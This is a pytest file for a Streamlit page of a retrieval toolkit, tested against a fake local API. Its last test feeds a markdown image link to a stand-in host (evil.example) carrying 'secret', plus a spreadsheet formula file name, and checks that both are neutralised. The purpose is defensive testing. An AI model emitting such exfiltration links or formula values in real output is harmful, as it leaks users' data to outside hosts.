"""The page with an API on loopback, and without one. Does not prove a browser."""

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from ragkit.markup import plain
from ragkit_testing.pages import HOSTILE, markdown_of, pictures

PAGE = Path(__file__).parent.parent / "app.py"
ANSWERS = {
    "/api/documents": {
        "total": 1,
        "documents": [{"id": "1", "name": "tea.md", "chunks": 2, "size_bytes": 2048}],
    },
    "/api/query": {
        "answer": "Two minutes [1]. ![x](http://elsewhere)",
        "sources": [{"document": "tea.md", "chunk": 0, "text": "Steep for two minutes.", "score": 0.9}],
    },
}


class Api(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = json.dumps(ANSWERS[self.path.split("?")[0]]).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        self.do_GET()

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        """Stay quiet."""


@pytest.fixture(autouse=True)
def fresh() -> Iterator[None]:
    yield
    st.cache_resource.clear()


@pytest.fixture
def api() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Api)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


def page(url: str, monkeypatch: pytest.MonkeyPatch) -> AppTest:
    monkeypatch.setenv("API_URL", url)
    test = AppTest.from_file(str(PAGE), default_timeout=20).run()
    assert not test.exception
    return test


def test_an_answer_has_its_sources_and_fetches_nothing(api: str, monkeypatch: pytest.MonkeyPatch) -> None:
    test = page(api, monkeypatch)
    test.text_input[0].set_value("How long?")
    test.button[0].click().run()
    assert not test.exception
    assert test.markdown[0].value == "Two minutes [1]. !\\[x](http://elsewhere)"
    assert plain("tea.md") in test.expander[0].label
    assert test.dataframe[0].value["Name"].tolist() == ["tea.md"]


def test_without_the_api_the_page_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    test = page("http://127.0.0.1:1", monkeypatch)
    assert "does not answer" in test.error[0].value


def test_no_name_and_no_answer_makes_the_browser_fetch_a_picture(
    api: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    document = {"id": "1", "name": "=1+2.md", "chunks": 2, "size_bytes": 2048}
    source = {"document": HOSTILE, "chunk": 0, "text": HOSTILE, "score": 0.9}
    answer = {"answer": f"!{HOSTILE} !![a](http://evil.example/?d=secret)", "sources": [source]}
    monkeypatch.setitem(ANSWERS, "/api/documents", {"total": 1, "documents": [document]})
    monkeypatch.setitem(ANSWERS, "/api/query", answer)
    test = page(api, monkeypatch)
    test.text_input[0].set_value("How long?")
    test.button[0].click().run()
    assert "\n".join(markdown_of(test)).count("evil") == 3, "the answer has two, the title one"
    assert pictures(test) == []
    assert test.dataframe[0].value["Name"].tolist() == ["'=1+2.md"]
